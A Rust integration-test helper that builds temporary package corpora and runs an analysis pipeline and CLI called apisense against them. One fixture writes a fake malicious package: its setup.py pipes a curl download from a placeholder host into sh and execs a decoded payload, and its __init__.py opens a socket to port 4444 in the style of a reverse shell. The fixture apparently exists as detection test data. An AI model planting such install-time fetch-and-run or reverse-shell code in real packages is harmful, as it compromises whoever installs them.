//! TestCorpus builder for integration testing
//!
//! A corpus is a directory with one subdirectory per package. The builder
//! writes source files into packages and runs the pipeline or the CLI
//! against the result.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use apisense::PipelineConfig;
use tempfile::TempDir;

/// Builder for creating package corpora
pub struct TestCorpus {
    dir: TempDir,
}

impl TestCorpus {
    /// Create a new empty corpus
    pub fn new() -> Self {
        Self {
            dir: TempDir::new().expect("Failed to create temp dir"),
        }
    }

    /// Get the path to the corpus root
    pub fn path(&self) -> &Path {
        self.dir.path()
    }

    pub fn path_str(&self) -> String {
        self.dir.path().to_string_lossy().to_string()
    }

    /// Directory of one package
    pub fn package(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// Add a source file to a package
    pub fn add_file(&self, package: &str, relative_path: &str, content: &str) -> &Self {
        let full_path = self.package(package).join(relative_path);
        if let Some(parent) = full_path.parent() {
            fs::create_dir_all(parent).expect("Failed to create parent dirs");
        }
        fs::write(&full_path, content).expect("Failed to write file");
        self
    }

    /// Add a package directory with no source files
    pub fn add_empty_package(&self, package: &str) -> &Self {
        fs::create_dir_all(self.package(package)).expect("Failed to create package dir");
        self
    }

    /// Add a package whose single module calls `calls` in order
    pub fn add_calls(&self, package: &str, calls: &[&str]) -> &Self {
        let body: String = calls.iter().map(|c| format!("{}()\n", c)).collect();
        self.add_file(package, "module.py", &body)
    }

    /// Setup-script style package: shell out, fetch and execute a payload
    pub fn with_malicious_package(&self, name: &str) -> &Self {
        self.add_file(
            name,
            "setup.py",
            r#"import os
import base64
from setuptools import setup

payload = base64.b64decode(ENCODED)
os.system("curl -s http://example.invalid/x | sh")
exec(payload)
setup(name="evil")
"#,
        )
        .add_file(
            name,
            "evil/__init__.py",
            r#"import socket
s = socket.socket()
s.connect(("example.invalid", 4444))
os.dup2(s.fileno(), 0)
"#,
        )
    }

    /// Ordinary library package
    pub fn with_benign_package(&self, name: &str) -> &Self {
        self.add_file(
            name,
            "setup.py",
            r#"from setuptools import setup, find_packages
setup(name="lib", packages=find_packages())
"#,
        )
        .add_file(
            name,
            "lib/core.py",
            r#"import json

def load(path):
    with open(path) as fh:
        data = json.load(fh)
    print(len(data))
    return data
"#,
        )
    }

    /// Single-threaded configuration for this corpus
    pub fn config(&self) -> PipelineConfig {
        let mut config = PipelineConfig::for_corpus(self.path());
        config.parallelism = Some(1);
        config.validate().expect("valid config");
        config
    }

    /// Run the apisense binary with the corpus root as working directory
    pub fn run_cli(&self, args: &[&str]) -> std::io::Result<Output> {
        Command::new(env!("CARGO_BIN_EXE_apisense"))
            .current_dir(self.path())
            .env("RUST_LOG", "off")
            .args(args)
            .output()
    }

    /// Run CLI and expect success, return stdout
    pub fn run_cli_success(&self, args: &[&str]) -> String {
        let output = self.run_cli(args).expect("Failed to run CLI");
        assert!(
            output.status.success(),
            "CLI command {:?} failed: {}",
            args,
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).to_string()
    }

    /// Run CLI and expect failure, return (exit code, stderr)
    pub fn run_cli_failure(&self, args: &[&str]) -> (Option<i32>, String) {
        let output = self.run_cli(args).expect("Failed to run CLI");
        assert!(
            !output.status.success(),
            "CLI command {:?} should have failed",
            args
        );
        (
            output.status.code(),
            String::from_utf8_lossy(&output.stderr).to_string(),
        )
    }
}

impl Default for TestCorpus {
    fn default() -> Self {
        Self::new()
    }
}
